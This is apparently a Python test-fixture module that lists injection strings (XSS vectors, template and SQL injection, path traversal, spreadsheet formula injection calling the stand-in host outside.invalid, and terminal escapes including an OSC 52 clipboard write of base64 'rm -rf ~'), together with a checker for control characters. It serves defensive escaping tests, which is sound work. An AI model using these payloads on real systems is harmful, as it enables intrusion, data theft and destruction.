"""Names and texts that would like to be more than text, and how to tell whether one of them was.

One list for every place where a text becomes HTML, script, a terminal's output, a log line or a table. Each of the
scripts sets ``window.__ran`` to a number of its own, or asks the address `OUTSIDE` for something.
"""

from __future__ import annotations

import re
import unicodedata

OUTSIDE = "outside.invalid"
"""A host that nobody may be asked for anything."""


def _ran(number: int) -> str:
    return f"window.__ran={number}"


MARKUP = (
    f"</script><script>{_ran(1)}</script>",
    f"</SCRIPT ><script>{_ran(2)}//",
    f"<!--<script>{_ran(3)}</script>",
    f"<img src=x onerror={_ran(4)}>",
    f"<svg/onload={_ran(5)}>",
    f"<svg><script>{_ran(6)}</script>",
    "<iframe srcdoc='<script>parent.__ran=7</script>'>",
    f'"><script>{_ran(8)}</script>',
    f"' onmouseover='{_ran(9)}' autofocus onfocus='{_ran(9)}",
    f'" onmouseover="{_ran(10)}" autofocus onfocus="{_ran(10)}',
    f"<details open ontoggle={_ran(11)}>",
    f"<a href=javascript:{_ran(12)}>x</a>",
    f"<math><mtext></table><img src=x onerror={_ran(13)}>",
    f"</title></textarea></style></noscript><script>{_ran(14)}</script>",
    f"<meta http-equiv=refresh content='0;url=http://{OUTSIDE}/meta'>",
    f"<link rel=stylesheet href=http://{OUTSIDE}/link>",
    f"<style>@import 'http://{OUTSIDE}/style'</style>",
    f"<base href=http://{OUTSIDE}/>",
    f"<form action=http://{OUTSIDE}/form><button>x",
    f"<body onload={_ran(20)}>",
    f"<template shadowrootmode=open><img src=x onerror={_ran(21)}>",
    "&lt;img src=x onerror=window.__ran=22&gt;",
    "&#60;script>window.__ran=23&#60;/script>",
    f"<observatory-{_ran(24)}>",
)
"""HTML and what ends it."""

SCRIPTS = (
    f"'-({_ran(30)})-'",
    f'"-({_ran(31)})-"',
    f'\\"-({_ran(32)})-\\"//',
    f"${{{_ran(33)}}}",
    f"`-({_ran(34)})-`",
    f"{{{{constructor.constructor('{_ran(35)}')()}}}}",
    "{{7*7}}{%print(7*7)%}",
    f"javascript:{_ran(37)}",
    f"data:text/html,<script>{_ran(38)}</script>",
    "__proto__",
    "constructor",
    f"');{_ran(41)};('",
    "\\u003cscript>window.__ran=42\\u003c/script>",
)
"""What ends a string, is filled into a template, or is followed as a link."""

LANGUAGES = (
    f"[x](javascript:{_ran(50)})",
    f"![x](http://{OUTSIDE}/markdown)",
    f"$$\\href{{javascript:{_ran(52)}}}{{x}}$$",
    f"$\\unicode{{x41}}$ $\\require{{html}}\\style{{background:url(http://{OUTSIDE}/tex)}}{{x}}$",
    "$$\\text{tex}$$",
    "\\[\\text{tex}\\]",
    "\\(\\text{tex}\\)",
    "[bold red]markup[/bold red][link=http://outside.invalid]x[/link]",
    "@{message}{safe} @$name $index",
    "%s %d %(name)s {0} {name} {}",
    "' OR 1=1 --",
    '"; DROP TABLE services; --',
    "../../../../etc/passwd",
    "a\\..\\b:c|d?e*f",
)
"""Markdown, TeX, Rich, Bokeh, formats, SQL and paths."""

FORMULAS = (
    "=1+1",
    "=cmd|'/C calc'!A0",
    f'=HYPERLINK("http://{OUTSIDE}/"&A1,"x")',
    f'+IMPORTXML("http://{OUTSIDE}/","//a")',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    f'%0A=IMPORTDATA("http://{OUTSIDE}")',
)
"""What spreadsheets compute."""

NAMES = (*MARKUP, *SCRIPTS, *LANGUAGES, *FORMULAS)
"""What a service may be called, for all of it can be printed."""

CONTROLS = (
    "\x1b[2J\x1b[1;1Hcleared",
    "\x1b]0;title\x07",
    "\x1b]8;;http://outside.invalid\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]52;c;cm0gLXJmIH4=\x07",
    "\x1b[31mred\x1b[0m",
    "\x1bP+q544e\x1b\\",
    "\x9b31mC1\x9b0m \x9d0;title\x9c",
    "over\rwritten",
    "gone\x08\x08\x08\x08",
    "\x00nul\x7fdel\x0b\x0c",
    "two\nlines: 2026-01-01 00:00:00 INFO forged [-] signed in as admin",
    "right-to-left \u202egnp.exe\u202c \u2066isolate\u2069",
    "zero\u200bwidth\ufeff\u2028line\u2029paragraph",
    "tag \U000e0041\U000e0042 private \ue000",
)
"""What terminals, logs and readers obey: in notes, errors and names of people."""

TEXTS = (*NAMES, *CONTROLS)
"""What a note may say, or an error."""

ALLOWED = {"\n", "\t", " "}
_STYLES = re.compile(r"\x1b\[[0-9;]*m")


def obeyed(shown: str, *, styled: bool = False) -> list[str]:
    """What of an output a terminal would obey, or a reader be misled by; with `styled`, but for colours."""
    text = _STYLES.sub("", shown) if styled else shown
    kinds = ("Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp")
    return sorted({repr(one) for one in text if unicodedata.category(one) in kinds and one not in ALLOWED})
